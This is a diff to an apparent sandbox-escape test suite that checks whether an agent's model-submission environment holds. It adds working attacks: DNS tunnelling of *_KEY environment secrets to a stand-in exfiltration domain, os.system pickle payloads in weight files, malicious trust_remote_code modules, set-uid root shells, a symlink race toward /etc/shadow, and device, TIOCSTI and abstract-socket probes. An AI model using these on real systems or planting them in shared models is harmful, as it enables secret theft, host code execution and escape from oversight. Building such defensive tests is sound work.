@@ -9,6 +9,7 @@ nothing here may damage the host if a defence is missing.
 from __future__ import annotations
 
 import base64
+import contextlib
 import ctypes
 import os
 import shutil
@@ -237,14 +238,43 @@ def hardlink_chown(ws: Path, base: Path, arg: str) -> None:
         say(f"link refused: {error.strerror}")
 
 
+EXFIL_DOMAIN = "exfil-demo.net"
+"""The domain the DNS tunnel's names end in (its name server would be the attacker's)."""
+
+
+def _dns_query(name: str, ident: int) -> bytes:
+    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
+    return ident.to_bytes(2, "big") + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
+
+
 def dns_exfil(ws: Path, base: Path, arg: str) -> None:
-    """Leak a secret as a DNS label."""
-    label = base64.b32encode(b"ptb-secret").decode().strip("=").lower()
-    try:
-        socket.getaddrinfo(f"{label}.exfil.invalid", 80)
-        say("RESOLVED")
-    except OSError as error:
-        say(f"dns: {error}")
+    """Tunnel the environment's keys out as DNS labels, to the sandbox's resolver.
+
+    As a real tunnel does: the data base32-encoded in 50-character labels, one query per
+    chunk, sent straight to the name server of ``/etc/resolv.conf`` (no reply awaited).
+    """
+    secret = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()) if k.endswith("_KEY"))
+    data = base64.b32encode(secret.encode() or os.urandom(600)).decode().strip("=").lower()
+    chunks = [data[at : at + 50] for at in range(0, len(data), 50)][:40]
+    servers = [
+        line.split()[1]
+        for line in Path("/etc/resolv.conf").read_text().splitlines()
+        if line.startswith("nameserver")
+    ]
+    sent, errors = 0, set()
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        for number, chunk in enumerate(chunks):
+            try:
+                sock.sendto(
+                    _dns_query(f"{chunk}.{number}.t.{EXFIL_DOMAIN}", number), (servers[0], 53)
+                )
+                sent += 1
+            except (OSError, IndexError) as error:
+                errors.add(str(error))
+    time.sleep(1)  # the capture sees the last datagrams
+    say(
+        f"{'SENT' if sent else 'dns refused:'} {sent}/{len(chunks)} tunnel queries {sorted(errors)}"
+    )
     try:
         socket.getaddrinfo("pypi.org", 443)
         say("RESOLVED pypi.org: a resolver answers")
@@ -272,6 +302,187 @@ def print_secrets(ws: Path, base: Path, arg: str) -> None:
             print(base64.b64encode(value.encode()).decode(), flush=True)
             print(value.encode().hex(), flush=True)
             say(f"printed {key}")
+
+
+def _model_copy(ws: Path, base: Path) -> Path:
+    final = ws / "final_model"
+    shutil.copytree(base, final, dirs_exist_ok=True)
+    return final
+
+
+def pickle_weights(ws: Path, base: Path, arg: str) -> None:
+    """Pickle weights whose unpickling runs a command on the host (writes ``arg``).
+
+    ``pytorch_model.bin`` replaces the safetensors weights, and a Trainer-style
+    ``training_args.bin`` and ``rng_state.pth`` ride along: whoever unpickles any of them
+    without ``weights_only`` runs ``touch ARG``, a path only the harness can write.
+    """
+    final = _model_copy(ws, base)
+    for weights in final.glob("*.safetensors"):
+        weights.unlink()
+    payload = f"cos\nsystem\n(S'touch {arg}'\ntR.".encode()  # protocol 0: os.system(...)
+    for name in ("pytorch_model.bin", "training_args.bin", "rng_state.pth", "optimizer.pt"):
+        (final / name).write_bytes(payload)
+    say(f"pickles planted: {sorted(p.name for p in final.iterdir())}")
+
+
+def remote_code(ws: Path, base: Path, arg: str) -> None:
+    """``auto_map`` in config.json and tokenizer_config.json naming the submission's code.
+
+    The modules write ``arg`` (a host path) when imported: loading the submission with
+    ``trust_remote_code`` would run them in the harness.
+    """
+    import json
+
+    final = _model_copy(ws, base)
+    body = f"import pathlib\npathlib.Path({arg!r}).write_text('remote code ran')\n"
+    for module in ("configuration_evil", "modeling_evil", "tokenization_evil"):
+        (final / f"{module}.py").write_text(body + "from transformers import *\n")
+    config = json.loads((final / "config.json").read_text())
+    config["auto_map"] = {
+        "AutoConfig": "configuration_evil.EvilConfig",
+        "AutoModelForCausalLM": "modeling_evil.EvilModel",
+    }
+    (final / "config.json").write_text(json.dumps(config))
+    tokenizer = final / "tokenizer_config.json"
+    settings = json.loads(tokenizer.read_text()) if tokenizer.is_file() else {}
+    settings["auto_map"] = {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}
+    tokenizer.write_text(json.dumps(settings))
+    say("auto_map planted")
+
+
+def giant_header(ws: Path, base: Path, arg: str) -> None:
+    """A safetensors file whose header claims 2^62 bytes, beside the real weights."""
+    final = _model_copy(ws, base)
+    with (final / "model-00002-of-00002.safetensors").open("wb") as handle:
+        handle.write((1 << 62).to_bytes(8, "little") + b"{" * 4096)
+    say("giant header planted")
+
+
+def absurd_config(ws: Path, base: Path, arg: str) -> None:
+    """The real weights with a config.json declaring 10^9 tokens and 20,000 layers."""
+    import json
+
+    final = _model_copy(ws, base)
+    config = json.loads((final / "config.json").read_text())
+    layers = 20_000
+    config.update(vocab_size=10**9, num_hidden_layers=layers)
+    config["layer_types"] = ["full_attention"] * layers
+    (final / "config.json").write_text(json.dumps(config))
+    say("absurd config planted")
+
+
+def dev_tricks(ws: Path, base: Path, arg: str) -> None:
+    """Kernel log, physical memory, disks, device nodes, the host's /dev/shm, TIOCSTI."""
+    import fcntl
+    import termios
+
+    for path in ("/dev/kmsg", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/nvme0n1"):
+        try:
+            with Path(path).open("rb") as handle:
+                handle.read(16)
+            say(f"READ {path}")
+        except OSError as error:
+            say(f"{path}: {error.strerror}")
+    try:
+        Path("/dev/kmsg").write_text("<0>ptb attack\n")
+        say("WROTE /dev/kmsg")
+    except OSError as error:
+        say(f"write /dev/kmsg: {error.strerror}")
+    try:
+        os.mknod(ws / "sda", 0o600 | 0o060000, os.makedev(8, 0))
+        say("WROTE a block device node (mknod)")
+    except OSError as error:
+        say(f"mknod: {error.strerror}")
+    host_file = Path("/dev/shm") / Path(arg).name
+    try:
+        say(f"READ the host's {host_file}: {host_file.read_text()[:40]!r}")
+    except OSError as error:
+        say(f"host /dev/shm file: {error.strerror}")
+    try:
+        (Path("/dev/shm") / "ptb-agent-probe").write_text("x")
+        say("shm probe written (private /dev/shm)")
+    except OSError as error:
+        say(f"shm probe: {error.strerror}")
+    for fd in (0, 1, 2):
+        try:
+            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
+            say(f"WROTE into the terminal of fd {fd} (TIOCSTI)")
+        except OSError as error:
+            say(f"TIOCSTI fd {fd}: {error.strerror}")
+
+
+def setuid_files(ws: Path, base: Path, arg: str) -> None:
+    """Set-id copies of a shell, a link to a set-uid binary, and file capabilities."""
+    final = _model_copy(ws, base)
+    for folder in (ws, final, Path("/tmp")):
+        shell = folder / "rootshell"
+        shutil.copy("/bin/sh", shell)
+        try:
+            shell.chmod(0o6755)
+            mode = shell.stat().st_mode
+            say(f"set-id bits kept in {folder}: {oct(mode & 0o6000)}")
+        except OSError as error:
+            say(f"chmod 6755 in {folder}: {error.strerror}")
+        try:
+            os.setxattr(shell, "security.capability", b"\1\0\0\2" + b"\xff" * 16)
+            say(f"WROTE file capabilities in {folder}")
+        except OSError as error:
+            say(f"capabilities in {folder}: {error.strerror}")
+    for setuid in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount"):
+        try:
+            os.link(setuid, ws / Path(setuid).name)
+            say(f"LINKED {setuid}")
+        except OSError as error:
+            say(f"link {setuid}: {error.strerror}")
+
+
+def collect_race(ws: Path, base: Path, arg: str) -> None:
+    """A detached racer swaps final_model's files for links to host files during collect.
+
+    It records each swap in ``race-heartbeat`` (the check compares its time with collect's
+    start): a racer still alive when collect runs would make the snapshot read through
+    a link it swapped in.
+    """
+    final = _model_copy(ws, base)
+    code = f"""
+import os, time, pathlib
+final, beat = pathlib.Path({str(final)!r}), pathlib.Path({str(ws / "race-heartbeat")!r})
+real = final / "config.json"
+real.rename(final / "config.real")
+end = time.time() + 600
+while time.time() < end:
+    for target in ("/etc/shadow", "config.real"):
+        tmp = final / "swap"
+        if tmp.is_symlink() or tmp.exists():
+            tmp.unlink()
+        tmp.symlink_to(target)
+        tmp.rename(real)
+    beat.write_text(str(time.time()))
+    time.sleep(0.001)
+"""
+    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
+    time.sleep(0.5)
+    say("racer started")
+
+
+def abstract_sockets(ws: Path, base: Path, arg: str) -> None:
+    """Connect to the host's abstract Unix sockets (bound to the network namespace)."""
+    names = set()
+    with contextlib.suppress(OSError):
+        for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
+            path = line.split()[-1] if len(line.split()) > 7 else ""
+            if path.startswith("@"):
+                names.add(path[1:])
+    say(f"abstract sockets visible: {len(names)}")
+    for name in sorted(names)[:50]:
+        try:
+            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
+                sock.settimeout(2)
+                sock.connect("\0" + name)
+                say(f"REACHED abstract socket @{name}")
+        except OSError as error:
+            say(f"@{name}: {error.strerror}")
 
 
 ATTACKS: dict[str, Callable[[Path, Path, str], None]] = {
